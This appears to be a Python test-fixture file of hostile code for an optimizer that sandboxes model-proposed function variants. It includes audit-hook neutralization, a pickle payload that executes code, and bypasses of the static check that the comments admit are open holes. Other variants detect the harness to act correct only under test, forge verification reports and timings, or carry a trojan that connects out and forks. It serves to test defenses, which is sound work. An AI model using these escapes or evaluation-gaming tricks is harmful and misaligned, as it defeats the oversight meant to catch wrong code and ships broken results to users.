"""Hostile code shared by the attack tests: a prelude for raw sandbox snippets, and function bodies that
go after verification, measurement and the pipeline.

Snippets (optimizer/sandboxed/snippet.py) get ``PAYLOAD`` (conftest.World.payload: where the workspace,
the secrets, the listeners are) and report ``RESULT = {"attempts", "info", "leak"}``: each forbidden
action is an ``attempt`` recorded as "done" or "refused: <why>".

The result of a one-shot child travels on its protocol descriptor (boot.py's duplicate of the original
stdout, taken before any user code; fd 1 itself is /dev/null): ``RESULT_MARK`` and one JSON line, the
parent reading what follows the last mark. ``protocol_fd()`` finds it as hostile code would: the first
pipe above 2 (a persistent child has two: its requests, then its answers).

Bodies of ``total(xs)`` for model proposals. Each hostile body starts with a way to reach ``sys``:

- ``REACH``: ``operator.attrgetter("sys")(typing)``, the route the old deny-list let through; the
  allowlist (optimizer/reach.py) refuses it (``typing`` is not an allowed module, ``attrgetter`` is
  reflective), so bodies behind it are never run by the pipeline;
- ``REACH_OS``: ``os.path.sys``, for a module that imports ``os`` and whose ``total`` uses ``os.path``
  (``OS_CALC``). optimizer/reach.py limits the attributes of an imported name to those the original uses
  at the first level only (``os.path``), not what lies past it: this route still gets through (a hole,
  see test_pipeline_attacks.py), and the tests use it to show what the sandbox does with code that
  gets past the static check.

The bodies after the prefix use only public attribute names, so that only the prefix decides.

``FORGED``: whole variants of ``total`` that forge ``verify`` when they run, in plain sight (``import sys``):
what the static check must refuse, and what the direct API shows they would do.
"""

from __future__ import annotations

import textwrap

from slipstream.optimizer.sandbox import RESULT_MARK

_PRELUDE = '''
import ctypes, os, pickle, socket, struct, sys
P = PAYLOAD
MARK = RESULT_MARK_VALUE  # optimizer/sandbox.RESULT_MARK: the parent reads what follows the last one
libc = ctypes.CDLL(None, use_errno=True)
OUT = {}  # forbidden action -> "done" or "refused: ..."
INFO = {}  # what the code found out on the way
LEAK = []  # whatever it managed to read


def c(r):
    """A libc call's result, or OSError with its errno."""
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def attempt(label, fn):
    try:
        fn()
    except BaseException as exc:
        OUT[label] = f"refused: {type(exc).__name__}: {exc}"[:300]
    else:
        OUT[label] = "done"


def c_open(path, flags, mode=0o644):
    return c(libc.open(os.fsencode(path), flags, mode))


def c_connect(family, addr, kind=socket.SOCK_STREAM):
    fd = c(libc.socket(family, kind, 0))
    try:
        buf = ctypes.create_string_buffer(addr, len(addr))
        c(libc.connect(fd, buf, len(addr)))
        os.write(fd, b"hello from the sandbox")
    finally:
        os.close(fd)


def inet(port, host="127.0.0.1"):
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def unix(path):
    return struct.pack("<H", socket.AF_UNIX) + path


def neutralize_guard():
    """An audit hook cannot be removed, but its code can be replaced: afterwards it lets everything by."""
    import gc

    def make(inside):
        def hook(event, args):
            return inside and None

        return hook

    n = 0
    for f in gc.get_objects():
        if type(f) is type(make) and f.__qualname__ == "install.<locals>.hook":
            f.__code__ = make(None).__code__
            n += 1
    INFO["hooks neutralized"] = n
    return n


def fd_links():
    links = {}
    for name in os.listdir("/proc/self/fd"):
        try:
            links[int(name)] = os.readlink("/proc/self/fd/" + name)
        except OSError:
            pass
    return links


def protocol_fd():
    """Where the driver's result goes: the first pipe above 2 (fd 2 is the stderr pipe)."""
    pipes = sorted(k for k, v in fd_links().items() if k > 2 and v.startswith("pipe:"))
    if not pipes:
        raise LookupError("no protocol descriptor")
    return pipes[0]


def silence(fd):
    """Point ``fd`` at /dev/null: whatever the driver writes there at the end is lost."""
    null = os.open(os.devnull, os.O_WRONLY)
    os.dup2(null, fd)
    os.close(null)


class Boom:
    """Unpickled anywhere, creates the world's marker file and sets builtins.SLIPSTREAM_PWNED."""

    def __reduce__(self):
        code = f"open({P['pwned']!r}, 'w').write('pwned'); __import__('builtins').SLIPSTREAM_PWNED = True"
        return (exec, (code,))


BOOM = pickle.dumps(Boom())
'''

PRELUDE = _PRELUDE.replace("RESULT_MARK_VALUE", repr(RESULT_MARK))

EPILOGUE = "\nRESULT = {'attempts': OUT, 'info': INFO, 'leak': LEAK}\n"


def snippet(code: str) -> str:
    return PRELUDE + code + EPILOGUE


# -- bodies of ``total(xs)`` (calc.py: a loop summing xs) -----------------------------------------------------

CALC = "def total(xs):\n    out = 0\n    for x in xs:\n        out = out + x\n    return out\n"

# The same function in a module that imports os, its total() using os.path: the original's names give
# a model's variant os.path, and through it (past the first attribute) sys and os.
OS_CALC = (
    "import os\n\n\n"
    "def total(xs):\n    out = 0\n    for x in xs:\n        out = out + x\n"
    '    return out if os.path.sep == "/" else -out\n'
)

# ``s`` is sys, ``m`` sys.modules, reached without naming them.
REACH = """\
    import operator
    import typing
    s = operator.attrgetter("sys")(typing)
    m = s.modules
"""
REACH_OS = """\
    s = os.path.sys
    m = s.modules
"""

# Inside the sandbox: read the job pickle (the payload: original source, inputs, budget) and list the
# descriptors (the protocol pipes).
READ_JOB = """\
    o = m["os"]
    fd = o.open(s.argv[-1], 0)
    job = m["pickle"].loads(o.read(fd, 1 << 26))
    o.close(fd)
    p, pkg = job["payload"], "_slipstream_sandboxed."
    fds = {}
    for name in o.listdir("/proc/self/fd"):
        try:
            fds[int(name)] = o.readlink("/proc/self/fd/" + name)
        except OSError:
            pass
    pipes = sorted(k for k, v in fds.items() if v.startswith("pipe:") and k > 2)
"""

# In the timing driver: answer the parent's requests on the protocol pipes itself, with the digest of the
# original's outcomes, taking 1/4 of the original's time per batch (so it does not look like an empty
# call); never returns (the parent's kill ends it).
HIJACK_TIMING = """\
    if job["driver"] == "timing":
        t, loader = m[pkg + "timing"], m[pkg + "loader"]
        real = loader.load_function(p, None)
        inputs = loader.load_inputs(p)
        digest = t.digest_of(t.last_pass(real, inputs), p["budget"])
        clock = m["time"]
        one_pass = float("inf")
        for _ in range(5):  # the fastest of five: one pass slowed by a busy machine made the forgery too slow
            start = clock.perf_counter()
            t.last_pass(real, inputs)
            one_pass = min(one_pass, clock.perf_counter() - start)
        rd, wr = pipes[:2]

        def send(msg):
            o.write(wr, m["json"].dumps(msg).encode() + b"\\n")

        send({"calls": [{"k": "return", "s": one_pass, "mut": []} for _ in inputs]})  # the first check's answer
        buf, repeat = b"", 1
        while True:
            while b"\\n" not in buf:
                chunk = o.read(rd, 65536)
                if not chunk:
                    clock.sleep(3600)
                buf += chunk
            line, buf = buf.split(b"\\n", 1)
            req = m["json"].loads(line)
            if req["op"] == "prepare":
                repeat = int(req["repeat"])
                send({"ok": True})
            elif req["op"] == "run":
                clock.sleep(repeat * one_pass / 4)
                send({"ok": True})
            elif req["op"] == "check":
                send({"calls": [{"k": "return", "s": one_pass, "mut": []} for _ in req["idx"]]})
            elif req["op"] == "digest":
                send({"digest": digest})
            elif req["op"] == "empty":
                send({"ok": True})
            else:
                send({"peak": 1000})
"""

# In the outcomes driver: the original's report, computed here; in the capture driver (the project's
# tests with the variant installed): a report that they passed. Written on the protocol descriptor after
# the mark, which then points to /dev/null, so that the driver's own result, written at the end, is lost
# and the forged one is the last the parent sees. Once per process (afterwards no pipe is left above 2).
FORGE_REPORTS = """\
    if pipes and job["driver"] in ("outcomes", "capture"):
        if job["driver"] == "outcomes":
            report = m[pkg + "outcomes"].main({**p, "functions": [None] * len(p["functions"])})
        else:
            report = {"inputs": [], "calls": 1, "skipped": 0, "status": 0, "stdout": ""}
        report["_files"] = {}
        o.write(pipes[0], MARK + m["json"].dumps(report).encode() + b"\\n")
        null = o.open("/dev/null", 1)
        o.dup2(null, pipes[0])
        o.close(null)
""".replace("MARK", repr(RESULT_MARK))

LOOP = """\
    out = 0
    for x in xs:
        out = out + x
    return out
"""

# Wrong everywhere (returns -1), yet every sandboxed process reports it right and fast.
LIAR = (
    '    if "_slipstream_sandboxed" not in m:\n        return -1\n'
    + READ_JOB
    + HIJACK_TIMING
    + FORGE_REPORTS
    + ("    return -1\n")
)

# Right and fast only where the harness is loaded; wrong in the user's program.
HARNESS_DETECTOR = '    if "_slipstream_sandboxed" in m:\n        return sum(xs)\n    return -1\n'

# The original's loop, unchanged: right, no faster, but it answers the timing requests itself.
TIMING_HIJACKER = (
    '    if "_slipstream_sandboxed.timing" in m:\n' + textwrap.indent(READ_JOB + HIJACK_TIMING, "    ") + LOOP
)

# Right and faster (sum), with a payload the sandbox stops: it tries to connect to the host's loopback
# listener on PORT and to start a process. Applied in the user's program, both would run.
TROJAN = """\
    libc = m["ctypes"].pythonapi  # the process's symbols, libc's among them: no dlopen per call
    addr = (2).to_bytes(2, "little") + (PORT).to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8)
    libc.connect(libc.socket(2, 1, 0), addr, len(addr))
    libc.fork()
    return sum(xs)
"""

# Keeps state between calls through a local alias of the function (reach.py refuses ``total.memo = ...``):
# an identity memo. Right whenever the argument is not mutated between two calls, as in verification;
# as fast as an empty call when timed (a batch repeats the same input objects); stale in the user's
# program after ``xs.append(...)``.
MEMO = """\
    f = total
    try:
        memo = f.memo
    except AttributeError:
        memo = f.memo = {}
    hit = memo.get(id(xs))
    if hit is not None and hit[0] is xs:
        return hit[1]
    out = 0
    for x in xs:
        out = out + x
    memo[id(xs)] = (xs, out)
    return out
"""

# Right (and fast) only where the harness is loaded, told by a format field: ``str.format`` taken as a
# value, with a field built from pieces, reads total.__globals__ -> builtins -> _frozen_importlib's
# globals -> sys.modules["_slipstream_sandboxed"] (a KeyError in the user's program).
SANDBOX_BY_FORMAT = """\
    fmt = str.format
    field = "{0" + ".__globals__[__builtins__][__import__].__self__.__loader__.find_spec.__func__"
    field = field + ".__globals__[sys].modules[_slipstream_sandboxed]}"
    try:
        fmt(field, total)
    except KeyError:
        return -1
    return sum(xs)
"""

# A class made with type(): a list that is empty but iterates as [sum(xs)], encoded as a builtins.list.
LAZY_LIST = """\
    lazy = type("list", (list,), {"__slots__": (), "__module__": "builtins", "__qualname__": "list",
                                  "__iter__": lambda self: iter([sum(xs)])})
    return lazy()
"""

# Hostile bodies that forge a verdict or a timing: ``prefix`` + body.
FORGING = {
    "returns -1 outside the sandbox; forges its report, its timings and the project's test run": LIAR,
    "right and fast only where the harness is loaded": HARNESS_DETECTOR,
    "the original's loop, answering the timing requests itself": TIMING_HIJACKER,
    "right and faster, carrying a payload (connect to loopback, fork) the sandbox stops": TROJAN,
}


def module_with(body: str, imports: str = "") -> str:
    """A whole module whose ``total`` has ``body``."""
    return imports + "def total(xs):\n" + body


# -- whole variants of calc.total that forge ``verify`` when they run (imports in plain sight) ---------------

_MARK = repr(RESULT_MARK)

# ``fd``: the protocol descriptor (boot.py's duplicate of stdout), the first pipe above 2; None once gone.
PROTOCOL_FD = """\
    links = {}
    for n in os.listdir("/proc/self/fd"):
        try:
            links[int(n)] = os.readlink("/proc/self/fd/" + n)
        except OSError:
            pass
    fd = min((k for k, v in links.items() if k > 2 and v.startswith("pipe:")), default=None)
"""
SILENCE = """\
    null = os.open(os.devnull, os.O_WRONLY)
    os.dup2(null, fd)
"""
ORIGINALS_REPORT = """\
    import json, os, pickle, sys
    with open(sys.argv[-1], "rb") as f:
        p = pickle.load(f)["payload"]
    report = sys.modules["_slipstream_sandboxed.outcomes"].main({**p, "functions": [None]})
    report = json.dumps({**report, "_files": {}}).encode()
"""

FORGED = {
    "the original's report, computed in-process, written on the protocol descriptor after the mark; os._exit(0)": (
        module_with(ORIGINALS_REPORT + PROTOCOL_FD + f"    os.write(fd, {_MARK} + report + b'\\n')\n    os._exit(0)\n")
    ),
    "the same, written through /proc/self/fd/N reopened with libc open(); os._exit(0)": module_with(
        ORIGINALS_REPORT
        + PROTOCOL_FD
        + f"""\
    import ctypes
    w = ctypes.CDLL(None).open(f"/proc/self/fd/{{fd}}".encode(), os.O_WRONLY)
    os.write(w, {_MARK} + report + b"\\n")
    os._exit(0)
"""
    ),
    "the same, then the descriptor silenced (the driver's own result lost) and -1 returned": module_with(
        "    import os\n"
        + PROTOCOL_FD
        + "    if fd is not None:\n"
        + textwrap.indent(ORIGINALS_REPORT + f"    os.write(fd, {_MARK} + report + b'\\n')\n" + SILENCE, "    ")
        + "    return -1\n"
    ),
    "the same, written by an atexit hook after the driver's own result; -1 returned": module_with(
        ORIGINALS_REPORT
        + PROTOCOL_FD
        + "    import atexit\n"
        + "    if not atexit._ncallbacks():\n"
        + f"        atexit.register(os.write, fd, {_MARK} + report + b'\\n')\n"
        + "    return -1\n"
    ),
    "canonical.encode patched through sys.modules to report -1 as the right sum": module_with("""\
    import sys
    canonical = sys.modules["_slipstream_sandboxed.canonical"]
    real = getattr(canonical, "real_encode", canonical.encode)
    canonical.real_encode = real
    right = sum(xs)
    canonical.encode = lambda value, budget=100_000: real(right if value == -1 else value, budget)
    return -1
"""),
    "the outcomes driver's `canonical` global rebound through sys._getframe": module_with("""\
    import sys, types
    f = sys._getframe(1)
    while "_Effects" not in f.f_globals:
        f = f.f_back
    g = f.f_globals
    real = getattr(g["canonical"], "real", g["canonical"])
    right = sum(xs)
    liar = lambda v, budget=100_000: real.encode(right if v == -1 else v, budget)
    g["canonical"] = types.SimpleNamespace(real=real, type_name=real.type_name, encode=liar)
    return -1
"""),
    "canonical.encode patched in the module dict gc.get_objects finds": module_with("""\
    import gc
    right = sum(xs)
    for d in gc.get_objects():
        if type(d) is dict and d.get("__name__") == "_slipstream_sandboxed.canonical":
            real = d.setdefault("real_encode", d["encode"])
            d["encode"] = lambda value, budget=100_000: real(right if value == -1 else value, budget)
    return -1
"""),
    "canonical.encode patched in the module dict gc.get_referrers(json) returns": module_with("""\
    import gc, json
    right = sum(xs)
    for d in gc.get_referrers(json):
        if type(d) is dict and d.get("__name__") == "_slipstream_sandboxed.canonical":
            real = d.setdefault("real_encode", d["encode"])
            d["encode"] = lambda value, budget=100_000: real(right if value == -1 else value, budget)
    return -1
"""),
    "right only where the harness is loaded (wrong in the user's program)": module_with(
        '    import sys\n    return sum(xs) if "_slipstream_sandboxed" in sys.modules else -1\n'
    ),
}


# -- round 2 -----------------------------------------------------------------------------------------------

# ``s`` is sys, ``m`` sys.modules, through an allowed module bound to a local (statistics imports sys): reach.py
# checks attributes of a module only where the module is named by its import-bound name.
REACH_LOCAL_MODULE = """\
    import statistics
    st = statistics
    s = st.sys
    m = s.modules
"""

# Right (and fast) only where the harness is loaded, told by code in a string annotation that
# functools.singledispatch's register() hands to typing.get_type_hints, which evals it with the function's
# globals (full builtins); the answer is stashed on the function by that code (reach never sees the write).
SANDBOX_BY_ANNOTATION = """\
    ok = getattr(total, "ok", None)
    if ok is None:
        import functools
        def h(x: "[setattr(total, 'ok', '_slipstream_sandboxed' in __import__('sys').modules), int][1]"):
            pass
        functools.singledispatch(len).register(h)
        ok = total.ok
    if ok:
        return sum(xs)
    return -1
"""

# The identity memo of MEMO, kept on the function through a second local (taint is not transitive).
MEMO_TWO_STEP = MEMO.replace("    f = total\n", "    box = [total]\n    f = box[0]\n")

# The identity memo kept on the function by functools.update_wrapper(total, h, updated=("__dict__",)):
# total.__dict__.update(h.__dict__), a write reach.py does not see as one.
MEMO_BY_UPDATE_WRAPPER = """\
    hit = getattr(total, "memo", None)
    if hit is not None and hit[0] is xs:
        return hit[1]
    out = 0
    for x in xs:
        out = out + x
    import functools
    def h():
        pass
    h.memo = (xs, out)
    functools.update_wrapper(total, h, assigned=(), updated=("__dict__",))
    return out
"""
